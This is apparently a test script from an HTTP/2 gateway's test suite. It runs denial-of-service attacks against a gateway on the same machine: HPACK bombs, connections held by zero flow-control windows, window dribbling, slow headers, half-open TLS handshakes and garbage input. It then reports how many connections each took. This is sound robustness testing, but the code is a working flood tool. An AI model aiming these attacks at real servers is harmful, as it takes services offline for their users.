#!/usr/bin/python3
"""Attacks a gateway on this machine for some seconds, as fast as it can, and prints how many connections that took.

    attack_client.py NAME PORT SECONDS [--tls]

The names are those of ATTACKS below. What HTTP/2 is concerned with comes from tests/scenario/attacks."""
import argparse
import itertools
import pathlib
import random
import socket
import sys
import threading
import time

TESTS = pathlib.Path(__file__).resolve().parent.parent
sys.path[:0] = [str(TESTS / "scenario/attacks")]
sys.path.append(str(TESTS / "conformance"))

import attacker  # noqa: E402  (found by the lines above)
import floods  # noqa: E402
import frames  # noqa: E402
import literal_hpack as hpack  # noqa: E402

CONNECTIONS, TCP_ESTABLISHED = 8, 1
LARGEST = "/1048576"
HELLO = bytes.fromhex("16030100c8010000c40303") + bytes(range(32))
SHUT = frames.settings((frames.INITIAL_WINDOW_SIZE, 0))


def flood(name, batches=100):
    """The beginning of an endless attack, as long as the server lets it become."""
    attack = floods.ALL[name]
    octets = frames.PREFACE + attack.settings + b"".join(itertools.islice(attack.octets(), batches))
    return Replay(octets)


def on_streams(octets_of, count=120, settings=SHUT):
    return frames.PREFACE + settings + b"".join(octets_of(stream) for stream in range(1, 2 * count, 2))


def bomb(stream):
    """A field of four kilobytes, fifteen times for fifteen octets."""
    first = hpack.literal("x-bomb", "y" * 4000, "indexing") if stream == 1 else b""
    return frames.headers(stream, hpack.block(floods.fields("/filled")) + first + hpack.indexed(hpack.FIRST_DYNAMIC) * 15)


class Replay:
    """The same octets on one connection after the other, each until the gateway has ended it. `is_raw`: not within TLS, also
    where there is TLS."""

    def __init__(self, octets=b"", count=CONNECTIONS, is_raw=False):
        self.octets, self.count, self.is_raw = octets, count, is_raw

    def take(self, sock, until):
        try:
            sock.sendall(self.octets)
            self.read_end(sock, until)
        except OSError:
            pass  # the gateway has had enough

    @staticmethod
    def read_end(sock, until):
        while time.monotonic() < until and sock.recv(1 << 16):
            pass


class Hold(Replay):
    """Many connections at one time. Nothing is read on them, and they are opened anew when the gateway has ended them."""

    @staticmethod
    def read_end(sock, until):
        """The end is seen by an error of the socket: reading would make room."""
        while time.monotonic() < until and not sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) and not is_closed(sock):
            time.sleep(0.05)


def is_closed(sock):
    """Whether the peer has sent all that it will (the state of TCP is the first octet of its information)."""
    return sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] != TCP_ESTABLISHED


class Dribble(Replay):
    """Opens windows by an octet at a time."""

    def take(self, sock, until):
        crumbs = b"".join(frames.window_update(stream, 1) for stream in range(1, 41, 2)) * 4
        try:
            sock.sendall(self.octets)
            while time.monotonic() < until:
                sock.sendall(crumbs)
                sock.recv(1 << 16)
        except OSError:
            pass


class Garbage(Replay):
    def take(self, sock, until):
        self.octets = random.randbytes(500)
        super().take(sock, until)


class Nothing(Replay):
    """A handshake, and the end."""

    def take(self, sock, until):
        pass


ATTACKS = {name: (lambda name=name: flood(name)) for name in floods.ALL} | {
    "HPACK bomb held by windows": lambda: Hold(on_streams(bomb)),
    "answers held by windows": lambda: Hold(on_streams(lambda stream: floods.get(stream, path=LARGEST))),
    "window dribble": lambda: Dribble(on_streams(lambda stream: floods.get(stream, path=LARGEST), 20)),
    "slow heads": lambda: Hold(frames.PREFACE + frames.settings() + floods.get(1, flags=frames.END_STREAM), 500),
    "slow heads of HTTP/1.1": lambda: Hold(b"GET / HTTP/1.1\r\nHost: a\r\nX: ", 500),
    "half-open handshakes": lambda: Hold(HELLO, 500, is_raw=True),
    "garbage for TLS": lambda: Garbage(is_raw=True),
    "plaintext for TLS": lambda: Replay(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", is_raw=True),
    "handshakes": lambda: Nothing(),
}


def work(attack, arguments, until, made):
    while time.monotonic() < until:
        try:
            sock = attacker.connect(arguments.port, arguments.tls and not attack.is_raw)
        except OSError:
            continue
        made.append(None)
        sock.settimeout(max(0.1, until - time.monotonic()))
        with sock:
            attack.take(sock, until)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("port", type=int)
    parser.add_argument("seconds", type=float)
    parser.add_argument("--tls", action="store_true")
    arguments = parser.parse_args()
    attack, made, until = ATTACKS[arguments.name](), [], time.monotonic() + arguments.seconds
    threads = [threading.Thread(target=work, args=(attack, arguments, until, made)) for _ in range(attack.count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(len(made))


if __name__ == "__main__":
    main()
